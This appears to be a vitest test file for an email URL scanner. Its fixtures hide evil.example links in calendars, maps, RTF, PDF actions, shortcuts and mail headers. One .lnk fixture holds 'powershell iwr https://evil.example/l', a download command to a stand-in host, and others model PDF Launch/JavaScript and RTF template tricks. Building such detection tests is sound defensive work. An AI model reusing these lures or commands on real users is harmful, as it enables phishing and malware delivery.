import { deflateSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { readHeaderFacts } from '../../lib/message/urls/header-urls.ts';
import { canHoldUrls } from '../../lib/message/urls/sources/sources.ts';
import { buildKml, buildKmz, placemark } from '../fixtures/build-map.ts';
import { buildPdf } from '../fixtures/build-pdf.ts';
import { LIMITS, search, source, urlsOf } from './search-rig.ts';

describe('appointments and cards', () => {
  const ics = (lines: string) => `BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\n${lines}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n`;
  test.each([
    ['a folded line', ics('URL:https://evil.exa\r\n mple/fold')],
    ['an escaped comma', ics('DESCRIPTION:see https://evil.example/fold\\, or\\nlater')],
    ['a description in HTML', ics('X-ALT-DESC;FMTTYPE=text/html:<a href="https&colon;//evil.example/fold">')],
    ['a parameter', ics('DESCRIPTION;ALTREP="https://evil.example/fold":x')],
    ['a card', 'BEGIN:VCARD\r\nVERSION:3.0\r\nURL;TYPE=WORK:https://evil.example/fold\r\nEND:VCARD\r\n'],
    [
      'a card in quoted-printable',
      'BEGIN:VCARD\r\nVERSION:2.1\r\nNOTE;ENCODING=QUOTED-PRINTABLE:https://evil.exam=\r\nple/f=6Fld\r\nEND:VCARD\r\n',
    ],
  ])('%s', async (_, text) => {
    expect(await urlsOf(text, { declaredType: 'text/calendar' })).toContain('https://evil.example/fold');
    expect(await urlsOf(text)).toContain('https://evil.example/fold');
  });

  test('with more URLs than are looked at say so, in however many spellings one of them repeats', async () => {
    const spelled = (index: number) =>
      `http${index % 2 ? 's' : 'S'}://a.example/${'./'.repeat(index >> 1)}${'x'.repeat(6_800)}`;
    const repeated = Array.from({ length: 1_300 }, (_, index) => `URL:${spelled(index)}`);
    const { urls, notSearched } = await search(
      ics([...repeated, 'DESCRIPTION:https://evil.example/end'].join('\r\n')),
      {
        declaredType: 'text/calendar',
      },
      { limits: { ...LIMITS, textBytes: 20_000_000 } },
    );
    expect(urls.some(({ normalised }) => normalised === 'https://evil.example/end')).toBe(false);
    expect(notSearched).toHaveLength(1);
  });

  test('keep the comma of a URL', async () => {
    expect(await urlsOf(ics('DESCRIPTION:https://evil.example/a\\,b\\nnow'))).toContain('https://evil.example/a,b');
  });
});

describe('maps', () => {
  const kml = (description: string) =>
    `<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><description>${description}</description></Placemark></kml>`;
  test.each([
    ['a page as character data', '<![CDATA[<a href="https://evil.example/m">x</a>]]>'],
    ['an escaped page', '&lt;a href=&quot;https://evil.example/m&quot;&gt;x&lt;/a&gt;'],
    ['references of XML in references of a page', '&amp;#104;ttps://evil.example/m'],
    [
      'a map that is loaded',
      'x</description><NetworkLink><Link><href>https://evil.example/m</href></Link></NetworkLink><description>',
    ],
    ['running text', 'see https://evil.example/m now'],
  ])('%s', async (_, description) => {
    const [address] = (await urlsOf(kml(description), { extensions: ['kml'] })).filter((url) => url.includes('evil'));
    expect(address).toMatch(/^https?:\/\/evil\.example\/m$/);
    const packed = await buildKmz(kml(description));
    expect((await urlsOf(packed, { extensions: ['kmz'] })).join(' ')).toContain('evil.example/m');
  });

  test('an address without its scheme', async () => {
    const text = kml('<![CDATA[<a href="//evil.example/m">x</a>]]>');
    expect(await urlsOf(text, { extensions: ['kml'] })).toContain('https://evil.example/m');
  });

  test('an ordinary map has no links', async () => {
    expect(await urlsOf(buildKml(placemark('Office', 'Room 1.2')), { extensions: ['kml'] })).toEqual([]);
  });

  test('a map of too many bytes is said to be unsearched', async () => {
    const { notSearched } = await search(kml('x'.repeat(LIMITS.textBytes)), { extensions: ['kml'] });
    expect(notSearched).toEqual([expect.stringMatching(/^a map of \d+ bytes$/)]);
  });
});

describe('rich text', () => {
  test.each([
    ['a field', '{\\rtf1{\\field{\\*\\fldinst HYPERLINK "https://evil.example/r"}{\\fldrslt x}}}'],
    ['a field in pieces', '{\\rtf1{\\field{\\*\\fldinst{\\b HYPERLINK }{"https://evil.ex}{ample/r"}}{\\fldrslt x}}}'],
    ['escapes', '{\\rtf1{\\field{\\*\\fldinst HYPERLINK "\\\'68ttps://evil.example\\u47?r"}}}'],
    ['a picture that is fetched', '{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "https://evil.example/r" \\\\d}}}'],
    ['a template', '{\\rtf1{\\*\\template https://evil.example/r}}'],
    ['running text', '{\\rtf1 see https://evil.example/r\\par}'],
    [
      'an embedded object',
      `{\\rtf1{\\object\\objautlink{\\*\\objdata ${Buffer.from(
        '\x01\0xxxxxxxxxxxxhttps://evil.example/r\0\0',
        'utf16le',
      )
        .toString('hex')
        .replace(/(.{60})/g, '$1\r\n')}}}}`,
    ],
  ])('%s', async (_, rtf) => {
    expect(await urlsOf(rtf)).toContain('https://evil.example/r');
  });
});

describe('shortcuts', () => {
  test.each([
    ['.url', '[InternetShortcut]\r\nURL=https://evil.example/s\r\n', 'https://evil.example/s'],
    [
      '.url of another scheme',
      '[InternetShortcut]\r\nURL=search-ms:query=x&crumb=location:a\r\n',
      'search-ms:query=x&crumb=location:a',
    ],
    [
      'an icon on a share',
      '[InternetShortcut]\r\nIconFile=\\\\evil.example\\s\\i.ico\r\n',
      'file://evil.example/s/i.ico',
    ],
    [
      '.webloc',
      '<plist><dict><key>URL</key><string>https://evil.example/s</string></dict></plist>',
      'https://evil.example/s',
    ],
  ])('%s', async (_, text, expected) => {
    expect(await urlsOf(text, { extensions: ['url'] })).toContain(expected);
  });

  test('.url in UTF-16', async () => {
    const bytes = Buffer.from('\ufeff[InternetShortcut]\r\nURL=https://evil.example/s\r\n', 'utf16le');
    expect(await urlsOf(bytes, { extensions: ['url'] })).toContain('https://evil.example/s');
  });

  test('a .lnk file is recognised by its first bytes', async () => {
    const head = Buffer.from('4c0000000114020000000000c000000000000046', 'hex');
    const body = Buffer.from('x\0\\\\evil.example\\share\\a.exe\0powershell iwr https://evil.example/l', 'utf16le');
    const urls = await urlsOf(Buffer.concat([head, Buffer.alloc(61), body]));
    expect(urls).toContain('https://evil.example/l');
    expect(urls).toContain('file://evil.example/share/a.exe');
  });
});

describe('PDF', () => {
  const pdf = (objects: string) => buildPdf({ trailingBytes: objects });
  const deflated = (text: string, entries: string) => {
    const data = deflateSync(Buffer.from(text, 'latin1')).toString('latin1');
    return `90 0 obj\n<< /Length ${data.length} /Filter /FlateDecode ${entries} >>\nstream\n${data}\nendstream\nendobj\n`;
  };
  test.each([
    ['a link', buildPdf({ links: ['https://evil.example/p'] })],
    ['escapes', pdf('90 0 obj\n<</S/URI/URI(https:\\057\\057evil\\\n.example\\/p)>>\nendobj')],
    ['parentheses within', pdf('90 0 obj\n<</T((a\\)b))/S/URI/URI(https://evil.example/p)>>\nendobj')],
    ['hexadecimal', pdf(`90 0 obj\n<</S/URI/URI<${Buffer.from('https://evil.example/p').toString('hex')}>>>\nendobj`)],
    ['a name with escapes', pdf('90 0 obj\n<</S/UR#49/U#52I(https://evil.example/p)>>\nendobj')],
    [
      'UTF-16',
      pdf(
        `90 0 obj\n<</URI<feff${Buffer.from('https://evil.example/p', 'utf16le').swap16().toString('hex')}>>>\nendobj`,
      ),
    ],
    ['a string of its own', pdf('90 0 obj\n(https://evil.example/p)\nendobj')],
    ['a launched file', pdf('90 0 obj\n<</S/Launch/F(https://evil.example/p)>>\nendobj')],
    ['a script', pdf('90 0 obj\n<</S/JavaScript/JS(app.launchURL\\("https://evil.example/p"\\))>>\nendobj')],
    ['a compressed object', pdf(deflated('1 0 <</S/URI/URI(https://evil.example/p)>>', '/Type /ObjStm /N 1 /First 4'))],
    [
      'a compressed form',
      pdf(deflated('<?xml version="1.0"?><submit target="https://evil.example/p"/>', '/Type /XFA')),
    ],
  ])('%s', async (_, bytes) => {
    expect(await urlsOf(bytes)).toContain('https://evil.example/p');
  });

  test('its producer and its metadata give no links', async () => {
    const objects =
      '90 0 obj\n<</Producer(cairo https://cairographics.example)>>\nendobj\n91 0 obj\n<</Type/Metadata/Subtype/XML/Length 30>>\nstream\n<x a="http://ns.example/1.0/"/>\nendstream\nendobj\n';
    expect(await urlsOf(pdf(objects))).toEqual([]);
  });

  test('says that an encrypted one was not searched', async () => {
    const { notSearched } = await search(pdf('trailer\n<</Encrypt 90 0 R>>'));
    expect(notSearched).toEqual(['the links of a PDF: it is encrypted']);
  });
});

describe('pages and texts', () => {
  test.each(['text/x-amp-html', 'text/watch-html', 'application/xhtml+xml', 'image/svg+xml', 'text/enriched'])(
    '%s',
    async (declaredType) => {
      expect(await urlsOf('<svg><a href="https&#58;//evil.example/g"/></svg>', { declaredType })).toContain(
        'https://evil.example/g',
      );
    },
  );
  test('the relative links of a page start from the address in its header', async () => {
    expect(await urlsOf('<a href="x">', { declaredType: 'text/html', base: 'https://evil.example/cl/' })).toEqual([
      'https://evil.example/cl/x',
    ]);
  });
  test('flowed text that drops its spaces goes on in the next line', async () => {
    const text = 'https://evil.example/flo \r\nwed';
    expect(await urlsOf(text, { declaredType: 'text/plain', isDelSp: true })).toEqual([
      'https://evil.example/flo',
      'https://evil.example/flowed',
    ]);
    expect(await urlsOf(text, { declaredType: 'text/plain' })).toEqual(['https://evil.example/flo']);
  });
  test('a program is not searched', () => {
    expect(
      canHoldUrls(
        source('MZ https://evil.example/', { detectedType: 'application/x-msdownload', extensions: ['exe'] }),
      ),
    ).toBe(false);
  });
  test('nothing more is searched when the time is over', async () => {
    const found = await search('https://evil.example/', { declaredType: 'text/plain' }, { workLeftMs: () => 0 });
    expect(found).toEqual({ urls: [], notSearched: ['the time for searching URLs was over'] });
  });
});

describe('headers', () => {
  const facts = (header: string) => readHeaderFacts(Buffer.from(`${header}\r\n\r\n`), LIMITS);
  const found = (header: string) => facts(header).urls.map(({ normalised }) => normalised);
  test.each([
    ['List-Unsubscribe', 'List-Unsubscribe: <mailto:x@y.example>,\r\n <https://evil.example/h>'],
    [
      'a subject in encoded words',
      `Subject: =?utf-8?B?${Buffer.from('see https://evil.example/h').toString('base64')}?=`,
    ],
    ['the name of a sender', 'From: "https://evil.example/h" <a@b.example>'],
    [
      'an external body',
      'Content-Type: message/external-body; access-type=URL;\r\n URL*0="https://evil.exa";\r\n URL*1="mple/h"',
    ],
  ])('%s', (_, header) => {
    expect(found(header)).toEqual(['https://evil.example/h']);
  });
  test('an external body by FTP', () => {
    expect(
      found(
        'Content-Type: message/external-body; access-type=anon-ftp; site="evil.example"; directory=pub; name=x.exe',
      ),
    ).toEqual(['ftp://evil.example/pub/x.exe']);
  });
  const cut = Buffer.from('see https://evil.example/h').toString('base64');
  test.each([
    [
      'base64 is cut anywhere',
      cut
        .match(/.{1,5}/g)
        ?.map((piece) => `=?utf-8?B?${piece}?=`)
        .join('\r\n '),
    ],
    ['base64 goes on behind its padding', `=?utf-8?B?${btoa('see https://ev')}${btoa('il.example/h')}?=`],
    ['the charset has no name', `=??B?${cut}?=`],
    ['an encoded word holds an invisible character', `=?utf-8?Q?see_https://ev=E2=80=8Bil.example/h?=`],
    ['an encoded word holds a line end', `=?utf-8?Q?see_https://ev=0D=0Ail.example/h?=`],
    ['an encoded word holds a control', `=?utf-8?Q?see_https://ev=01il.example/h?=`],
  ])('are found in a subject when %s', (_, subject) => {
    for (const field of [`Subject: ${subject}`, `From: ${subject} <ana@sender.example>`])
      expect(found(field)).toContain('https://evil.example/h');
  });

  test('a company name with a dot in the name of a sender is no link', () => {
    expect(found('From: Shop.com <news@shop.com>\r\nSubject: Shop.com and you')).toEqual([]);
  });
  test('name the address that relative links start from', () => {
    expect(facts('Content-Location: https://evil.example/cl/').base).toBe('https://evil.example/cl/');
    expect(facts('Content-Type: text/plain; format=flowed; delsp=yes').isDelSp).toBe(true);
  });
});
